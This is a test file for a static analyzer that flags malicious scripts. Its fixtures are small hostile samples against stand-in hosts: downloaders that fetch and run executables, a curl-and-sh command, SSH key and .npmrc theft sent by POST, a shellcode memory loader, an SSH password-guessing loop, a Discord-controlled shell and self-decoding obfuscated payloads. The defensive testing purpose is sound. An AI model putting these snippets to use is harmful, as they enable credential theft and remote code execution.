import { analyzeScript } from './analyze-script.js';
import type { ScriptAnalysis } from './script-analysis.js';

const analyze = (text: string, fileName: string): ScriptAnalysis => analyzeScript(Buffer.from(text), { fileName });
const rules = (analysis: ScriptAnalysis): string[] => analysis.facts.map(({ rule }) => rule);

describe('facts of several statements', () => {
  it.each([
    ['a.vbs', 'Set h = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\nh.Open "GET", "http://a.example.test/a", False\nh.Send\ns.Write h.responseBody\ns.SaveToFile "C:\\Users\\Public\\a.exe", 2\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe"', 'a.exe'],
    ['a.py', 'import urllib.request, subprocess\nurllib.request.urlretrieve("http://a.example.test/t", "/tmp/tool")\nsubprocess.Popen(["/tmp/tool"])', 'tool'],
    ['a.py', 'import os\nos.system("curl -o /tmp/inst http://a.example.test/t; sh /tmp/inst")', 'inst'],
  ])('a fetched file that is started, in %s', (fileName, text, file) => {
    expect(analyze(text, fileName).facts).toContainEqual(expect.objectContaining({ rule: 'runs-what-it-fetched', values: { file } }));
  });

  it.each([
    ['a.py', 'import requests\nopen("/tmp/data.json", "wb").write(requests.get("http://a.example.test/t").content)\nprint(open("/tmp/data.json").read())'],
    ['a.py', 'import requests, subprocess\nopen("/tmp/data.json", "wb").write(requests.get("http://a.example.test/t").content)\nsubprocess.run(["ls", "/var"])'],
  ])('not a fetched file that is only read, in %s', (fileName, text) => {
    expect(rules(analyze(text, fileName))).not.toContain('runs-what-it-fetched');
  });

  it('an address behind a decoding, not one put together', () => {
    expect(rules(analyze(`require("https").get(Buffer.from("${Buffer.from('https://hidden.example.test/a').toString('base64')}", "base64").toString())`, 'a.js'))).toContain('hides-an-address');
    expect(rules(analyze('var base = "https://open.example.test"; require("https").get(base + "/a")', 'a.js'))).not.toContain('hides-an-address');
  });

  it('secrets that are read and sent', () => {
    const stealer = 'const fs = require("fs"), os = require("os");\nconst k = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8") + fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\nfetch("https://a.example.test/", { method: "POST", body: k });';
    expect(analyze(stealer, 'a.js')).toMatchObject({ verdict: 'malicious' });
    expect(rules(analyze(stealer.replace(/fetch.*/, 'console.log(k.length);'), 'a.js'))).not.toContain('sends-secrets');
  });

  it('a package that fetches when it is installed, not one that only builds', () => {
    const setup = (body: string): string => `from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess, urllib.request\nclass Post(install):\n    def run(self):\n        ${body}\nsetup(name="a", cmdclass={"install": Post})\n`;
    expect(rules(analyze(setup('urllib.request.urlretrieve("http://a.example.test/a", "/tmp/a")'), 'setup.py'))).toContain('acts-on-install');
    expect(rules(analyze(setup('subprocess.check_call(["make"])'), 'setup.py'))).not.toContain('acts-on-install');
  });

  it('a variable that a script of another language in the same document has set', () => {
    const analysis = analyze('<html><script language="JScript">var place = unescape("%68%74%74%70://a.example.test/b");</script><script language="VBScript">CreateObject("WScript.Shell").Run "mshta " & place</script></html>', 'a.hta');
    expect(analysis.layers.map(({ text }) => text)).toContain('mshta http://a.example.test/b');
  });

  it('machine code that goes to memory, also through a buffer of another type', () => {
    const code = `buf = b"${'\\xfc\\x48\\x83\\xe4'.repeat(20)}"\n`;
    const loader = `import ctypes\n${code}k = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nc = (ctypes.c_char * len(buf)).from_buffer(bytearray(buf))\nk.RtlMoveMemory(p, c, len(buf))\n`;
    const whole = analyze(`${loader}k.CreateThread(0, 0, p, 0, 0, 0)\n`, 'a.py');
    expect(whole.layers.some(({ binaryBytes }) => binaryBytes === 80)).toBe(true);
    expect(rules(whole)).toContain('runs-machine-code');
    expect(rules(analyze(loader, 'a.py'))).not.toContain('runs-machine-code');
  });

  it('passwords that are tried one after the other', () => {
    const pairs = 'for p in ["root", "toor", "admin", "123456"]:\n    client.connect("192.0.2.7", 22, "root", p)\n';
    expect(analyze(`import paramiko\nclient = paramiko.SSHClient()\n${pairs}`, 'a.py').facts).toContainEqual(expect.objectContaining({ rule: 'guesses-passwords', techniques: ['T1110.001'] }));
    expect(rules(analyze(`import paramiko\npasswords = ["root", "toor", "admin"]\n`, 'a.py'))).toContain('keeps-password-list');
    expect(rules(analyze('import paramiko\nclient = paramiko.SSHClient()\nfor h in ["192.0.2.7", "192.0.2.8", "192.0.2.9", "192.0.2.10"]:\n    client.connect(h, 22, "deploy", "example")\n', 'a.py'))).not.toContain('guesses-passwords');
  });

  it('targets that a loop counts through are no indicators', () => {
    const { indicators } = analyze('import socket\nsocket.socket().connect(("198.51.100.9", 443))\nfor i in range(1, 200):\n    socket.socket().connect(("192.0.2.%d" % i, 22))\n', 'a.py');
    expect(indicators.filter(({ type }) => type === 'ip').map(({ value }) => value)).toEqual(['198.51.100.9']);
  });

  it('commands that come over a chat service, not a bot without a shell', () => {
    const bot = 'from discord.ext import commands\nimport subprocess\nbot = commands.Bot(command_prefix="!")\n@bot.command()\nasync def run(ctx, *, line):\n    await ctx.send(subprocess.run(line, shell=True, capture_output=True).stdout)\nbot.run("x")\n';
    expect(rules(analyze(bot, 'a.py'))).toContain('takes-commands-from-chat');
    expect(rules(analyze(bot.replace('line, shell=True', '["uptime"]'), 'a.py'))).not.toContain('takes-commands-from-chat');
  });

  it('functions of libraries that VBA declares, behind its directives', () => {
    const macro = '#If VBA7 Then\nPrivate Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n#End If\nSub AutoOpen()\nIf URLDownloadToFile(0, "http://a.example.test/" & "x", "C:\\Users\\Public\\y.exe", 0, 0) = 0 Then Shell "C:\\Users\\Public\\y.exe", 0\nEnd Sub\n';
    const analysis = analyze(macro, 'a.vba');
    expect(analysis.notDecoded).toEqual([]);
    expect(analysis.layers.map(({ text }) => text).join('\n')).toContain('URLDownloadToFile(0, "http://a.example.test/x", "C:\\Users\\Public\\y.exe", 0, 0)');
    expect(rules(analysis)).toContain('runs-what-it-fetched');
  });

  it.each([
    ['a.vbs', `Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile(WScript.ScriptFullName, 1)\nFor Each l In Split(f.ReadAll, vbLf)\nIf Left(l, 2) = "'~" Then d = d & Mid(l, 3)\nNext\nFor i = 1 To Len(d) Step 2\nx = x & Chr("&H" & Mid(d, i, 2))\nNext\nExecute x\n'~${Buffer.from('CreateObject("WScript.Shell").Run "whoami"').toString('hex')}\n`],
    ['a.js', `const t = require("fs").readFileSync(__filename, "utf8");\nrequire("child_process").exec(Buffer.from(t.slice(t.lastIndexOf("#") + 1), "hex").toString());\n//#${Buffer.from('whoami').toString('hex')}`],
    ['a.js', 'function* letters(a) { let k = 3; while (true) { yield k; k = (k * 5 + 1) % 256; } }\nfunction* opened(a) { let i = 0; for (const k of letters()) { if (i >= a.length) return; yield String.fromCharCode(a[i++] ^ k); } }\nrequire("child_process").exec([...opened([116, 120, 62, 247, 130, 197])].join(""));'],
  ])('what a script reads of itself or a generator gives, in %s', (fileName, text) => {
    expect(analyze(text, fileName).layers.map((layer) => layer.text)).toContain('whoami');
  });

  it('plain words written as escapes, not bytes that only look like it', () => {
    expect(rules(analyze(String.raw`require("\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73").exec("ls")`, 'a.js'))).toContain('escaped-words');
    expect(rules(analyze(String.raw`var table = "\x00\x41\x07\x42\x90\x43\xff\x44\x10";`, 'a.js'))).not.toContain('escaped-words');
  });

  it('what callbacks of a request gather is remote', () => {
    const { notDecoded } = analyze('require("https").get("https://a.example.test/", (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => eval(d)); });', 'a.js');
    expect(notDecoded.map(({ reason }) => reason)).toEqual(['remoteContent']);
  });

  it('an address with places to fill in is no indicator once it is known filled in', () => {
    const { indicators } = analyze('import requests\nrequests.get("https://a.example.test/bot%s/send" % "12345")', 'a.py');
    expect(indicators.filter(({ type }) => type === 'url').map(({ value }) => value)).toEqual(['https://a.example.test/bot12345/send']);
  });
});
